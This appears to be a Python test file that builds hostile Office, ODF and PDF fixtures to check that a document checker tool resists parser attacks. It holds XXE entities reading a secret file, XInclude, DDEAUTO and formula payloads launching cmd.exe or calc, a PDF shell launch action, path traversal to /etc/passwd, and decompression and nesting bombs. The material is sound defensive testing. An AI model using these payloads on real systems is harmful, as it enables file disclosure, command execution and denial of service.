enc("xml-entity-bombs", {"a.docx": entity_docs}, [LINT])


@case("xml-external-entities", E, [LINT_ALL, ["sh", "-c", "for f in *.docx *.xlsx *.odt *.fodt *.pptx; do checker show $f; done"]], endpoint="record", endpoint_forbidden=True)
def _(folder, outside):
    all_rules(folder)
    dt = (f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{outside}/secret.env"><!ENTITY n SYSTEM "http://127.0.0.1:@PORT@/e"><!ENTITY % d SYSTEM "file://{outside}/x.dtd">%d;]>')
    dt2 = f'<!DOCTYPE x SYSTEM "file://{outside}/x.dtd">'
    w(outside / "x.dtd", f'<!ENTITY s SYSTEM "file://{outside}/secret.env"><!ENTITY n "{SECRET}">')
    t = "<w:p><w:r><w:t>&s;&n;</w:t></w:r></w:p>"
    docx(folder / "a.docx", t, doctype=dt)
    docx(folder / "b.docx", t, doctype=dt2)
    docx(folder / "xi.docx", f'<w:p><w:r><w:t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{outside}/secret.env" parse="text"/></w:t></w:r></w:p>')
    pack(folder / "a.xlsx", xlsx_parts("", {"xl/sharedStrings.xml": f'{dt}<sst xmlns="{S}"><si><t>&s;</t></si></sst>', "xl/worksheets/sheet1.xml": f'{dt}<worksheet xmlns="{S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&s;</t></is></c></row></sheetData></worksheet>'}))
    pack(folder / "a.odt", odt_parts("<text:p>&s;</text:p>", doctype=dt))
    pack(folder / "a.pptx", pptx_parts([shape("x")], {"ppt/slides/slide1.xml": f'{dt}<p:sld xmlns:p="{P}" xmlns:a="{A}"><p:cSld><p:spTree>{shape("&s;")}</p:spTree></p:cSld></p:sld>'}))
    w(folder / "a.fodt", dt + '<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>&s;</text:p></office:text></office:body></office:document>')


@case("docx-external-links-and-templates", E, [LINT_ALL, ["checker", "fix", "a.docx", "-o", "o.docx"], ["checker", "check", "a.docx", "--no-model", "--annotate", "o2.docx"]], endpoint="record", endpoint_forbidden=True)
def _(folder, outside):
    all_rules(folder)
    u = "http://127.0.0.1:@PORT@/"
    # the port cannot be filled in inside a zip: the address below is served by nobody, the attempt itself is the fault
    u = "http://127.0.0.1:9/"
    rels = (relation(1, "image", u + "i.png", True) + relation(2, "attachedTemplate", u + "t.dotm", True) + relation(3, "subDocument", f"file://{outside}/secret.env", True)
            + relation(4, "oleObject", f"file://{outside}/secret.env", True) + relation(5, "header", f"file://{outside}/secret.env", True) + relation(6, "footnotes", u, True)
            + relation(7, "image", "../../../../../../../../etc/passwd") + relation(8, "styles", f"{outside}/secret.env") + relation(9, "frame", u, True) + relation(10, "hyperlink", "\\\\127.0.0.1\\share\\x", True)
            + relation(11, "settings", "settings.xml") + relation(12, "header", "../../outside/secret.env") + relation(13, "aFChunk", f"file://{outside}/secret.env", True))
    body = (para(DOC) + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{outside}/secret.env&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple><w:subDoc r:id="rId3"/></w:p><w:altChunk r:id="rId13"/>')
    docx(folder / "a.docx", body, rels=rels, extra={"word/settings.xml": f'{XML}<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>', "word/_rels/settings.xml.rels": f'{XML}<Relationships xmlns="{PR}">{relation(1, "attachedTemplate", u + "x.dotm", True)}</Relationships>'},
         sect='<w:sectPr><w:headerReference w:type="default" r:id="rId5"/><w:headerReference w:type="first" r:id="rId12"/></w:sectPr>')


def altchunks(p):
    inner = p.parent / "in.docx"
    docx(inner, para("x") + '<w:altChunk r:id="rId1"/>', rels=relation(1, "aFChunk", "chunk.docx"))
    for i in range(6):
        data = inner.read_bytes()
        docx(inner, para("x") + '<w:altChunk r:id="rId1"/>' * 50, rels=relation(1, "aFChunk", "chunk.docx"), extra={"word/chunk.docx": data})
    inner.rename(p)
    docx(p.parent / "self.docx", para("x") + '<w:altChunk r:id="rId1"/><w:altChunk r:id="rId2"/><w:altChunk r:id="rId3"/>' * 100, rels=relation(1, "aFChunk", "document.xml") + relation(2, "aFChunk", "c.html") + relation(3, "aFChunk", "c.rtf"),
         extra={"word/c.html": "<div>" * 50_000 + "<iframe src='file:///etc/passwd'>", "word/c.rtf": "{\\rtf1" + "{" * 100_000})


enc("docx-altchunk-recursion", {"a.docx": altchunks}, [LINT, ["checker", "show", "self.docx"]])


def many_rels(p):
    docx(p, para(DOC), rels="".join(relation(i, "hyperlink" if i % 2 else "header", f"h{i % 7}.xml", bool(i % 2)) for i in range(100_000)))
    docx(p.parent / "dup.docx", para(DOC), rels=relation(1, "header", "document.xml") * 50_000 + relation(2, "officeDocument", "document.xml"), types="".join(override(f"/word/x{i}.xml", "x/y") for i in range(50_000)))


enc("docx-100k-relationships", {"a.docx": many_rels}, [LINT, ["checker", "fix", "a.docx", "-o", "o.docx"]])


def styles_loop(p):
    def st(i, based, more=""):
        return f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="heading {i}"/><w:basedOn w:val="s{based}"/><w:link w:val="s{based}"/><w:next w:val="s{i}"/>{more}</w:style>'
    body = "".join(para("x", f'<w:pPr><w:pStyle w:val="s{i}"/></w:pPr>') for i in range(30))
    t = override("/word/styles.xml", WORD + "styles+xml") + override("/word/numbering.xml", WORD + "numbering+xml")
    r = relation(1, "styles", "styles.xml") + relation(2, "numbering", "numbering.xml")
    docx(p, body, rels=r, types=t, extra={"word/styles.xml": f'{XML}<w:styles xmlns:w="{W}">' + st(0, 0) + "".join(st(i, (i + 1) % 20) for i in range(1, 20)) + "</w:styles>"})
    docx(p.parent / "long.docx", "".join(para("x", f'<w:pPr><w:pStyle w:val="s{i}"/></w:pPr>') for i in range(29000, 29999)), rels=r, types=t,
         extra={"word/styles.xml": f'{XML}<w:styles xmlns:w="{W}">' + "".join(st(i, i - 1) for i in range(1, 30_000)) + "</w:styles>"})
    num = "".join(f'<w:abstractNum w:abstractNumId="{i}"><w:numStyleLink w:val="n{(i + 1) % 5}"/><w:styleLink w:val="n{i}"/><w:lvl w:ilvl="99999999999"><w:start w:val="-99999999999999"/><w:lvlText w:val="%1%2%9%99%0%%"/><w:numFmt w:val="upperRoman"/></w:lvl><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="{i + 1}"><w:abstractNumId w:val="{i}"/></w:num>' for i in range(5))
    docx(p.parent / "num.docx", "".join(para("x", f'<w:pPr><w:numPr><w:ilvl w:val="{l}"/><w:numId w:val="{n}"/></w:numPr><w:ind w:left="-9e99" w:firstLine="x"/><w:spacing w:line="99999999999999999999"/></w:pPr>') for l in ("0", "-1", "99999", "x") for n in ("1", "2", "99", "", "-1")), rels=r, types=t,
         extra={"word/styles.xml": f'{XML}<w:styles xmlns:w="{W}">' + "".join(f'<w:style w:type="numbering" w:styleId="n{i}"><w:pPr><w:numPr><w:numId w:val="{i + 1}"/></w:numPr></w:pPr></w:style>' for i in range(5)) + "</w:styles>", "word/numbering.xml": f'{XML}<w:numbering xmlns:w="{W}">{num}</w:numbering>'})


enc("docx-recursive-styles-numbering", {"a.docx": styles_loop}, [LINT, ["checker", "fix", "num.docx", "-o", "o.docx", "--grade", "unsafe"], ["checker", "show", "num.docx"]])


def footnote_loop(p):
    ref = lambda i: f'<w:r><w:footnoteReference w:id="{i}"/></w:r><w:r><w:commentReference w:id="{i}"/></w:r><w:r><w:endnoteReference w:id="{i}"/></w:r>'
    notes = lambda tag: f'{XML}<w:{tag}s xmlns:w="{W}">' + "".join(f'<w:{tag} w:id="{i}"><w:p>{ref((i + 1) % 9)}<w:r><w:t>x</w:t></w:r></w:p></w:{tag}>' for i in range(9)) + f'<w:{tag} w:id="1"/><w:{tag} w:id="x"/><w:{tag}/></w:{tag}s>'
    docx(p, f"<w:p>{ref(1) * 2000}<w:commentRangeStart w:id=\"1\"/><w:commentRangeStart w:id=\"1\"/><w:bookmarkStart w:id=\"0\" w:name=\"a\"/></w:p>" + para("x") + '<w:p><w:fldSimple w:instr="REF a"/><w:commentRangeEnd w:id="99"/></w:p>', rels=relation(1, "footnotes", "footnotes.xml") + relation(2, "endnotes", "endnotes.xml") + relation(3, "comments", "comments.xml"),
         types=override("/word/footnotes.xml", WORD + "footnotes+xml") + override("/word/endnotes.xml", WORD + "endnotes+xml") + override("/word/comments.xml", WORD + "comments+xml"),
         extra={f"word/{t}s.xml": notes(t) for t in ("footnote", "endnote", "comment")})
    docx(p.parent / "broken-part.docx", para(DOC), rels=relation(1, "comments", "comments.xml") + relation(2, "footnotes", "../../x.xml") + relation(3, "styles", "nothing.xml"), extra={"word/comments.xml": "<x", "word/commentsExtended.xml": "<x"})


enc("docx-circular-notes", {"a.docx": footnote_loop}, [LINT, ["checker", "decisions", "a.docx", "--dry-run"], ["checker", "check", "a.docx", "--no-model", "--annotate", "o.docx"]])


def deep_docx(p):
    d = p.parent
    docx(p, "<w:tbl><w:tr><w:tc>" * 3000 + para("x") + "</w:tc></w:tr></w:tbl>" * 3000)
    docx(d / "sdt.docx", "<w:sdt><w:sdtContent>" * 5000 + para("x") + "</w:sdtContent></w:sdt>" * 5000)
    docx(d / "ins.docx", "<w:p>" + '<w:ins w:id="1"><w:del w:id="2"><w:smartTag><w:hyperlink>' * 3000 + "<w:r><w:t>x</w:t></w:r>" + "</w:hyperlink></w:smartTag></w:del></w:ins>" * 3000 + "</w:p>")
    docx(d / "txbx.docx", "<w:p>" + "<w:r><w:pict><w:txbxContent><w:p>" * 2000 + "<w:r><w:t>x</w:t></w:r>" + "</w:p></w:txbxContent></w:pict></w:r>" * 2000 + "</w:p>")
    docx(d / "alt.docx", "<w:p><w:r>" + '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice><w:r><w:txbxContent><w:p>' * 500 + "<w:r><w:t>x</w:t></w:r>" + "</w:p></w:txbxContent></w:r></mc:Choice><mc:Fallback/></mc:AlternateContent>" * 500 + "</w:r></w:p>")
    docx(d / "omml.docx", "<w:p>" + '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num>' * 3000 + "</m:num></m:f></m:oMath>" * 3000 + "</w:p>")
    docx(d / "fld.docx", "<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF</w:instrText></w:r>' * 20_000 + "</w:p>")
    docx(d / "raw.docx", "<x>" * 100_000)


def nested_docx(p):
    """As deep as XML readers let pass: below 256 elements, and below 2048."""
    d = p.parent
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    m = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
    kinds = {
        "sdt": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", para("深い2025年8月1日(木)"), "", ""),
        "tbl": ("<w:tbl><w:tr><w:tc><w:p/>", "</w:tc></w:tr></w:tbl>", para("x"), "", ""),
        "txbx": ("<w:p><w:r><w:t>上</w:t><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>", para("x"), "", ""),
        "alt": (f"<w:p><w:r><mc:AlternateContent {mc}><mc:Choice><w:drawing><w:txbxContent>", "</w:txbxContent></w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent><w:p/></w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>", para("x"), "", ""),
        "ins": ('<w:ins w:id="1"><w:hyperlink w:anchor="x">', "</w:hyperlink></w:ins>", "<w:r><w:t>x</w:t></w:r>", "<w:p>", "</w:p>"),
        "del": ('<w:del w:id="1"><w:moveTo w:id="2">', "</w:moveTo></w:del>", "<w:r><w:delText>x</w:delText></w:r>", "<w:p>", "</w:p>"),
        "fld": ('<w:fldSimple w:instr="REF x">', "</w:fldSimple>", "<w:r><w:t>x</w:t></w:r>", "<w:p>", "</w:p>"),
        "omml": (f"<m:f {m}><m:num><m:r><m:t>a</m:t></m:r>", "</m:num><m:den/></m:f>", "", f"<w:p><m:oMath {m}>", "</m:oMath></w:p>"),
        "both": ("<w:tbl><w:tr><w:tc><w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p></w:tc></w:tr></w:tbl>", para("x"), "", ""),
    }
    for k, (a, b, inner, head, tail) in kinds.items():
        each = a.count("<") - a.count("</") * 2 - a.count("/>")
        for limit in (240, 2000):
            n = limit // each
            docx(d / f"{k}-{limit}.docx", head + a * n + inner + b * n + tail)
    pack(d / "group-240.pptx", pptx_parts(["<p:grpSp>" * 240 + shape("x") + "</p:grpSp>" * 240]))
    pack(d / "group-2000.pptx", pptx_parts(["<p:grpSp>" * 2000 + shape("x") + "</p:grpSp>" * 2000]))
    for n in (120, 990):
        pack(d / f"list-{n}.odt", odt_parts("<text:list><text:list-item>" * n + "<text:p>x</text:p>" + "</text:list-item></text:list>" * n))
        pack(d / f"table-{n // 3}.odt", odt_parts("<table:table><table:table-row><table:table-cell>" * (n // 2) + "<text:p>x</text:p>" + "</table:table-cell></table:table-row></table:table>" * (n // 2)))


enc("office-nesting-below-xml-limits", {"sdt-240.docx": nested_docx}, [LINT, ["checker", "fix", "txbx-240.docx", "-o", "o.docx", "--grade", "unsafe"], ["checker", "check", "ins-240.docx", "--no-model", "--annotate", "o2.docx"]])
enc("docx-deep-nesting", {"a.docx": deep_docx}, [LINT, ["checker", "fix", "a.docx", "ins.docx", "--check-only"], ["sh", "-c", "for f in *.docx; do checker show $f | tail -n 3; done"]])


def odd_docx(p):
    d = p.parent
    docx(p, f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr>{para("x")}</w:tc></w:tr><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr><w:tc/></w:tr></w:tbl>')
    docx(d / "esc.docx", para("a&#x1b;[31m") if False else "<w:p><w:r><w:t>\u009b31m\u202e2025年8月1日(木)</w:t><w:tab/><w:br w:type='x'/><w:sym w:char='ZZZZ'/><w:sym w:char='D800'/><w:t>x</w:t></w:r></w:p>")
    docx(d / "nobody.docx", "", sect="")
    docx(d / "one-para.docx", "<w:p>" + "<w:r><w:rPr><w:b/></w:rPr><w:t>x</w:t></w:r>" * 150_000 + "</w:p>")
    docx(d / "empty-rows.docx", "<w:tbl>" + "<w:tr>" + "<w:tc><w:p/></w:tc>" * 60 + "</w:tr>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 60 + "</w:tr>") * 1500 + "</w:tbl>")
    docx(d / "header-self.docx", para("x"), rels=relation(1, "header", "document.xml") + relation(2, "footnotes", "document.xml") + relation(3, "styles", "document.xml"), sect='<w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr>' )
    parts = docx_parts(para(DOC))
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"_rels/.rels")
    pack(d / "root-self.docx", parts)
    pack(d / "renamed.docx", xlsx_parts(f'<row r="1">{cell("A1", "x")}</row>'))
    pack(d / "renamed.pdf", docx_parts(para(DOC)))
    w(d / "text.docx", DOC)


enc("docx-odd-values", {"a.docx": odd_docx}, [LINT, ["checker", "show", "esc.docx"], ["checker", "fix", "one-para.docx", "-o", "o.docx"]])


def png(width, height, extra=b""):
    c = lambda t, b: struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b))
    return b"\x89PNG\r\n\x1a\n" + c(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)) + extra + c(b"IDAT", zlib.compress(b"\0" * 1000)) + c(b"IEND", b"")


def images(p):
    drawing = '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="99999999999999" cy="-1"/><wp:docPr id="1" name="x" descr="图 1"/><a:graphic xmlns:a="' + A + '"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rId1" r:link="rId2"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    docx(p, drawing * 50, rels=relation(1, "image", "media/i.png") + relation(2, "image", "http://127.0.0.1:9/x.png", True), extra={"word/media/i.png": png(2**31 - 1, 2**31 - 1)})
    w(p.parent / "i.png", png(65000, 65000))
    w(p.parent / "a.md", "![図 1](i.png)\n![x](data:image/png;base64," + "A" * 1_000_000 + ")\n![x](file:///dev/zero)\n![x](http://127.0.0.1:9/x.png)\n![x](fifo.png)\n")
    os.mkfifo(p.parent / "fifo.png")


enc("images-huge-dimensions", {"a.docx": images}, [LINT, ["checker", "check", "a.md", "--no-model", "--format", "html", "-o", ".r.html"], ["checker", "check", "a.docx", "--no-model", "--annotate", "o.docx"]])


def xlsx_cells(p):
    d = p.parent
    pack(p, xlsx_parts("".join(f'<row r="{i}">' + "<c/>" * 200 + "</row>" for i in range(1, 5001))))
    pack(d / "far.xlsx", xlsx_parts(f'<row r="1048576">{cell("XFD1048576", "x")}</row><row r="1">{cell("A1", "x")}</row>', sheet_more='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))
    pack(d / "refs.xlsx", xlsx_parts("".join(f'<row r="{r}">{cell(c, "x")}</row>' for r, c in (("99999999999999", "A1"), ("-1", "ZZZZZZZZZZ99999999999"), ("x", "1A"), ("0", ""), ("1", "A0"))), sheet_more=f'<dimension ref="A1:ZZZZZZ9999999999"/><dataValidations><dataValidation sqref="{"A1:XFD1048576 " * 1000}"/></dataValidations><conditionalFormatting sqref="A1:XFD1048576"/><hyperlinks><hyperlink ref="A1:XFD1048576" r:id="x"/></hyperlinks>'))
    pack(d / "names.xlsx", xlsx_parts(f'<row r="1">{cell("A1", "x")}</row>', workbook_more="<definedNames>" + "".join(f'<definedName name="n{i}">n{i + 1}*n{i + 1}</definedName>' for i in range(5000)) + '<definedName name="_xlnm.Print_Area">Sheet1!$A$1:$XFD$1048576</definedName></definedNames>'))
    pack(d / "fmt.xlsx", xlsx_parts('<row r="1"><c r="A1" s="0"><v>1e308</v></c><c r="B1" s="1"><v>-99999999999</v></c><c r="C1" s="999999999"><v>1</v></c><c r="D1" t="s"><v>99999999</v></c><c r="E1" t="s"><v>-1</v></c><c r="F1" t="d"><v>x</v></c><c r="G1" t="e"><v>#REF!</v></c><c r="H1" s="1"><v>nan</v></c><c r="I1" s="2"><v>1e-300</v></c><c r="J1" s="0"><v>' + "9" * 10_000 + "</v></c></row>",
         {"xl/styles.xml": f'{XML}<styleSheet xmlns="{S}"><numFmts><numFmt numFmtId="164" formatCode="{"0" * 30_000}.{"0" * 30_000}"/><numFmt numFmtId="165" formatCode="yyyy/mm/dd{"[" * 5000}"/><numFmt numFmtId="166" formatCode="{"# ?/" + "?" * 300}"/></numFmts><cellXfs><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="166"/></cellXfs></styleSheet>'}))
    pack(d / "shared.xlsx", xlsx_parts('<row r="1">' + '<c r="A1" t="s"><v>0</v></c>' * 3000 + "</row>", {"xl/sharedStrings.xml": f'{XML}<sst xmlns="{S}" count="99999999999" uniqueCount="-1"><si><t>{"大きい" * 500_000}</t></si></sst>'}))


enc("xlsx-million-cells", {"a.xlsx": xlsx_cells}, [LINT, ["checker", "check", "far.xlsx", "fmt.xlsx", "--no-model"], ["checker", "check", "refs.xlsx", "--no-model", "--annotate", "o.xlsx"]])


def xlsx_links(p):
    pack(p, xlsx_parts(f'<row r="1"><c r="A1"><f>WEBSERVICE("http://127.0.0.1:9/")</f><v>1</v></c><c r="B1"><f>=cmd|\' /C calc\'!A0</f><v>x</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>2025年8月1日(木)</v></c></row>',
         {"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>', "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{PR}">{relation(1, "externalLinkPath", "file:///etc/passwd", True)}</Relationships>', "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="http://127.0.0.1:9/" command="x"/></connection></connections>', "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\xff" * 2000},
         workbook_more='<externalReferences><externalReference r:id="rId5"/></externalReferences>', wb_rels=relation(5, "externalLink", "externalLinks/externalLink1.xml"), sheets='<sheet name="&#10;::error::x" sheetId="2" r:id="rId1"/><sheet name="../../outside/x" sheetId="2" r:id="rId1"/>' + '<sheet name="S" sheetId="3" r:id="rId1"/>' * 3000))
    pack(p.parent / "b.xlsx", xlsx_parts(f'<row r="1">{cell("A1", "x")}</row>', sheets='<sheet name="no part" sheetId="2" r:id="rId99"/>'))


enc("xlsx-external-and-repeated-sheets", {"a.xlsx": xlsx_links}, [LINT, [*LINT, "--format", "github"], ["checker", "show", "a.xlsx"]])


def pptx_odd(p):
    d = p.parent
    pack(p, pptx_parts(["<p:grpSp>" * 5000 + shape("x") + "</p:grpSp>" * 5000]))
    ps = pptx_parts([shape("x")])
    ps["ppt/slides/_rels/slide1.xml.rels"] = (f'<Relationships xmlns="{PR}">' + relation(1, "notesSlide", "../slides/slide1.xml") + relation(2, "slideLayout", "../slides/slide1.xml") + relation(3, "comments", "http://127.0.0.1:9/x", True) + "</Relationships>").encode()
    pack(d / "loop.pptx", ps)
    ps = pptx_parts([shape("x")])
    ps["ppt/presentation.xml"] = ps["ppt/presentation.xml"].replace(b"</p:sldIdLst>", b'<p:sldId id="256" r:id="rId1"/>' * 20_000 + b"</p:sldIdLst>")
    pack(d / "same-slide.pptx", ps)
    tbl = f'<p:graphicFrame><a:graphic><a:graphicData><a:tbl><a:tr h="x"><a:tc gridSpan="999999999" rowSpan="-5"><a:txBody><a:p><a:r><a:t>x</a:t></a:r></a:p></a:txBody></a:tc></a:tr></a:tbl></a:graphicData></a:graphic></p:graphicFrame>'
    pack(d / "table.pptx", pptx_parts([tbl]))


enc("pptx-structures", {"a.pptx": pptx_odd}, [LINT, ["sh", "-c", "for f in *.pptx; do checker show $f | tail -n 3; done"]])


def odt_odd(p):
    d = p.parent
    pack(p, odt_parts("<table:table>" + '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>' * 3 + "</table:table>"))
    pack(d / "spaces.odt", odt_parts('<text:p>a<text:s text:c="2147483647"/>b<text:s text:c="-5"/><text:s text:c="x"/></text:p>' * 3))
    pack(d / "deep.odt", odt_parts("<text:list><text:list-item>" * 5000 + "<text:p>x</text:p>" + "</text:list-item></text:list>" * 5000))
    pack(d / "section.odt", odt_parts('<text:section text:name="x"><text:section-source xlink:href="file:///etc/passwd"/></text:section><text:h text:outline-level="99999999999">x</text:h><text:h text:outline-level="-1">y</text:h><text:p><draw:frame><draw:image xlink:href="http://127.0.0.1:9/x.png"/></draw:frame></text:p>'))
    pack(d / "span.odt", odt_parts("<text:p>" + "<text:span>" * 20_000 + "x" + "</text:span>" * 20_000 + "</text:p>"))
    styles = "".join(f'<style:style style:name="s{i}" style:family="paragraph" style:parent-style-name="s{(i + 1) % 5}"/>' for i in range(5))
    pack(d / "styles.odt", odt_parts('<text:p text:style-name="s0">x</text:p>', {"styles.xml": f'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"><office:styles>{styles}</office:styles></office:document-styles>'}))
    pack(d / "enc.odt", odt_parts("<text:p>x</text:p>", {"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml"><m:encryption-data m:checksum="x"/></m:file-entry><m:file-entry m:full-path="../../outside/secret.env"/></m:manifest>'}))


enc("odt-repeats-and-depth", {"a.odt": odt_odd}, [LINT, ["sh", "-c", "for f in *.odt; do checker show $f | tail -n 2; done"], ["checker", "check", "deep.odt", "--no-model", "--annotate", "o.odt"]])


def pdf_loops(p):
    d = p.parent
    base = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PDF_PAGE, 4: stream(PDF_TEXT), 5: PDF_FONT}
    pdf(p, base | {2: b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 99999999 /Parent 2 0 R >>"})
    pdf(d / "parent.pdf", base | {3: b"<< /Type /Page /Parent 3 0 R /Contents 3 0 R /Resources 3 0 R >>"})
    pdf(d / "length.pdf", base | {4: b"<< /Length 4 0 R >>\nstream\n" + PDF_TEXT + b"\nendstream"})
    pdf(d / "ref.pdf", base | {1: b"1 0 R", 6: b"7 0 R", 7: b"6 0 R"})
    pdf(d / "form.pdf", base | {3: PDF_PAGE.replace(b"/Resources <<", b"/Resources << /XObject << /X 6 0 R >>"), 4: stream(b"/X Do " * 50), 6: stream(b"/X Do " * 50, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")})
    pdf(d / "outlines.pdf", base | {1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /Names << /Dests 7 0 R /EmbeddedFiles 7 0 R >> /OpenAction << /S /Launch /F (sh) >> /AcroForm << /XFA 4 0 R /Fields [8 0 R] >> /PageLabels 7 0 R /StructTreeRoot 9 0 R >>", 6: b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (x) >>", 7: b"<< /Kids [7 0 R 7 0 R] /Limits [(a) (z)] >>", 8: b"<< /Kids [8 0 R 8 0 R] /T (x) /Parent 8 0 R >>", 9: b"<< /K [9 0 R 9 0 R] /P 9 0 R >>"})
    pdf(d / "prev.pdf", base, b"/Prev 0")
    data = (d / "prev.pdf").read_bytes()
    x = data.index(b"xref")
    w(d / "prevloop.pdf", data.replace(b"/Prev 0", b"/Prev %d" % x))
    pdf(d / "startxref.pdf", base, startxref=-5)
    pdf(d / "startxref2.pdf", base, startxref=10**30)
    pdf(d / "tree.pdf", base | {2: b"<< /Type /Pages /Kids [" + b"6 0 R " * 20 + b"] /Count 9 >>", 6: b"<< /Type /Pages /Kids [" + b"7 0 R " * 20 + b"] >>", 7: b"<< /Type /Pages /Kids [" + b"8 0 R " * 20 + b"] >>", 8: b"<< /Type /Pages /Kids [" + b"3 0 R " * 20 + b"] >>"})


enc("pdf-recursive-objects", {"a.pdf": pdf_loops}, [LINT, ["checker", "check", "form.pdf", "--no-model"], ["sh", "-c", "for f in *.pdf; do checker show $f | tail -n 1; done"]])


def pdf_bombs(p):
    d = p.parent
    base = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PDF_PAGE, 4: stream(PDF_TEXT), 5: PDF_FONT}
    raw_, _, _ = bomb(800, b"", b"(x) Tj ", b"", sums=False)
    z = b"\x78\xda" + raw_
    pdf(p, base | {4: stream(z, b"/Filter /FlateDecode")})
    twice = zlib.compress(z, 9)
    pdf(d / "twice.pdf", base | {4: stream(twice, b"/Filter [/FlateDecode /FlateDecode]")})
    pdf(d / "filters.pdf", base | {4: stream(b"x" * 100, b"/Filter [" + b"/ASCIIHexDecode /RunLengthDecode " * 5000 + b"]")})
    pdf(d / "predictor.pdf", base | {4: stream(zlib.compress(b"x" * 1000), b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 999999 /BitsPerComponent 99 >>")})
    pdf(d / "deep.pdf", base | {6: b"[" * 100_000, 4: stream(b"[" * 100_000 + b"<<" * 50_000)})
    pdf(d / "digits.pdf", base | {3: PDF_PAGE.replace(b"600 800", b"9" * 50_000 + b" -1e999"), 4: stream(b"BT /F1 1e999 Tf " + b"9" * 10_000 + b" 0 Td (x) Tj " + b"q " * 100_000 + b"ET")})
    pdf(d / "objstm.pdf", base | {6: stream(b"7 0 7 0 " * 1000, b"/Type /ObjStm /N 99999999 /First 99999999 /Extends 6 0 R")})
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange\n" + b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange\n" * 50 + b"1 begincidrange <00000000> <ffffffff> 0 endcidrange endcmap"
    pdf(d / "cmap.pdf", base | {5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /../../../../etc/passwd /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>", 6: stream(cmap), 7: b"<< /Type /Font /Subtype /CIDFontType2 /W [0 4294967295 500] /CIDSystemInfo << /Registry (../../outside) /Ordering (evil) >> >>"})
    pdf(d / "usecmap.pdf", base | {5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>", 6: stream(b"/../../../../../../../tmp/evil usecmap", b"/Type /CMap /UseCMap 6 0 R /CMapName /..#2f..#2fevil"), 7: b"<< /Type /Font /Subtype /CIDFontType2 >>"})
